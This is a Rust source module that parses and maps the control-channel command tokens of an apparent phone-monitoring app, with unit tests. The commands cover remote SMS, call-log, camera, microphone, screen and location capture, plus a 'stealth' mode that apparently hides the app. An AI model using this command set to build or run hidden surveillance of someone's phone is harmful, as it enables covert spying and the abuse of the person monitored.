use crate::capability::{AckKind, Capability, CapabilityAction};

/// Command tokens understood by the control channel. Tokens may arrive
/// wrapped in a `command` envelope or as a legacy bare string.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CommandToken {
    SmsOn,
    SmsOff,
    CalllogOn,
    CalllogOff,
    CameraOn,
    CameraOff,
    CameraSwitch,
    MicOn,
    MicOff,
    ScreenOn,
    ScreenOff,
    LocateChild,
    LocateChildStop,
    StealthOn,
    StealthOff,
    NotifSnapshot,
    Ping,
}

impl CommandToken {
    pub fn parse(token: &str) -> Option<Self> {
        Some(match token {
            "SMS_ON" => Self::SmsOn,
            "SMS_OFF" => Self::SmsOff,
            "CALLLOG_ON" => Self::CalllogOn,
            "CALLLOG_OFF" => Self::CalllogOff,
            "CAMERA_ON" => Self::CameraOn,
            "CAMERA_OFF" => Self::CameraOff,
            "CAMERA_SWITCH" => Self::CameraSwitch,
            "MIC_ON" => Self::MicOn,
            "MIC_OFF" => Self::MicOff,
            "SCREEN_ON" => Self::ScreenOn,
            "SCREEN_OFF" => Self::ScreenOff,
            "LOCATE_CHILD" => Self::LocateChild,
            "LOCATE_CHILD_STOP" => Self::LocateChildStop,
            "STEALTH_ON" => Self::StealthOn,
            "STEALTH_OFF" => Self::StealthOff,
            "NOTIF_SNAPSHOT" => Self::NotifSnapshot,
            "PING" => Self::Ping,
            _ => return None,
        })
    }

    pub fn as_str(&self) -> &'static str {
        match self {
            Self::SmsOn => "SMS_ON",
            Self::SmsOff => "SMS_OFF",
            Self::CalllogOn => "CALLLOG_ON",
            Self::CalllogOff => "CALLLOG_OFF",
            Self::CameraOn => "CAMERA_ON",
            Self::CameraOff => "CAMERA_OFF",
            Self::CameraSwitch => "CAMERA_SWITCH",
            Self::MicOn => "MIC_ON",
            Self::MicOff => "MIC_OFF",
            Self::ScreenOn => "SCREEN_ON",
            Self::ScreenOff => "SCREEN_OFF",
            Self::LocateChild => "LOCATE_CHILD",
            Self::LocateChildStop => "LOCATE_CHILD_STOP",
            Self::StealthOn => "STEALTH_ON",
            Self::StealthOff => "STEALTH_OFF",
            Self::NotifSnapshot => "NOTIF_SNAPSHOT",
            Self::Ping => "PING",
        }
    }

    /// The capability operation this token maps to. `PING` and
    /// `NOTIF_SNAPSHOT` are handled by the multiplexer itself.
    pub fn capability(&self) -> Option<(Capability, CapabilityAction)> {
        use CapabilityAction::*;
        Some(match self {
            Self::SmsOn => (Capability::Sms, Start),
            Self::SmsOff => (Capability::Sms, Stop),
            Self::CalllogOn => (Capability::CallLog, Start),
            Self::CalllogOff => (Capability::CallLog, Stop),
            Self::CameraOn => (Capability::Camera, Start),
            Self::CameraOff => (Capability::Camera, Stop),
            Self::CameraSwitch => (Capability::Camera, Switch),
            Self::MicOn => (Capability::Microphone, Start),
            Self::MicOff => (Capability::Microphone, Stop),
            Self::ScreenOn => (Capability::Screen, Start),
            Self::ScreenOff => (Capability::Screen, Stop),
            Self::LocateChild => (Capability::Location, Start),
            Self::LocateChildStop => (Capability::Location, Stop),
            Self::StealthOn => (Capability::Stealth, Start),
            Self::StealthOff => (Capability::Stealth, Stop),
            Self::NotifSnapshot | Self::Ping => return None,
        })
    }
}

/// Whether a token is an acknowledgement mirrored from a command rather
/// than a command itself.
pub fn is_ack_token(token: &str) -> bool {
    token.ends_with("_STARTED")
        || token.ends_with("_STOPPED")
        || token.ends_with("_PERMISSION_REQUESTED")
        || token.contains("_ERROR:")
}

/// Render the acknowledgement token mirrored from a command.
pub fn ack_token(token: &str, ack: &AckKind) -> String {
    match ack {
        AckKind::Started => format!("{token}_STARTED"),
        AckKind::Stopped => format!("{token}_STOPPED"),
        AckKind::Error(detail) => format!("{token}_ERROR:{detail}"),
        AckKind::PermissionRequested => format!("{token}_PERMISSION_REQUESTED"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parse_and_render_are_inverse() {
        for token in [
            "SMS_ON",
            "CALLLOG_OFF",
            "CAMERA_SWITCH",
            "MIC_ON",
            "SCREEN_OFF",
            "LOCATE_CHILD",
            "LOCATE_CHILD_STOP",
            "STEALTH_ON",
            "NOTIF_SNAPSHOT",
            "PING",
        ] {
            let parsed = CommandToken::parse(token).expect(token);
            assert_eq!(parsed.as_str(), token);
        }
        assert!(CommandToken::parse("FORMAT_DISK").is_none());
    }

    #[test]
    fn capability_mapping() {
        assert_eq!(
            CommandToken::CameraSwitch.capability(),
            Some((Capability::Camera, CapabilityAction::Switch))
        );
        assert_eq!(CommandToken::Ping.capability(), None);
        assert_eq!(CommandToken::NotifSnapshot.capability(), None);
    }

    #[test]
    fn ack_tokens_mirror_commands() {
        assert_eq!(ack_token("CAMERA_ON", &AckKind::Started), "CAMERA_ON_STARTED");
        assert_eq!(ack_token("MIC_OFF", &AckKind::Stopped), "MIC_OFF_STOPPED");
        assert_eq!(
            ack_token("SCREEN_ON", &AckKind::Error("busy".to_string())),
            "SCREEN_ON_ERROR:busy"
        );
        assert_eq!(
            ack_token("CAMERA_ON", &AckKind::PermissionRequested),
            "CAMERA_ON_PERMISSION_REQUESTED"
        );
    }

    #[test]
    fn ack_tokens_are_recognized() {
        assert!(is_ack_token("CAMERA_ON_STARTED"));
        assert!(is_ack_token("MIC_OFF_STOPPED"));
        assert!(is_ack_token("SCREEN_ON_ERROR:busy"));
        assert!(is_ack_token("CAMERA_ON_PERMISSION_REQUESTED"));
        assert!(!is_ack_token("CAMERA_ON"));
        assert!(!is_ack_token("FUTURE_FEATURE_ON"));
    }
}
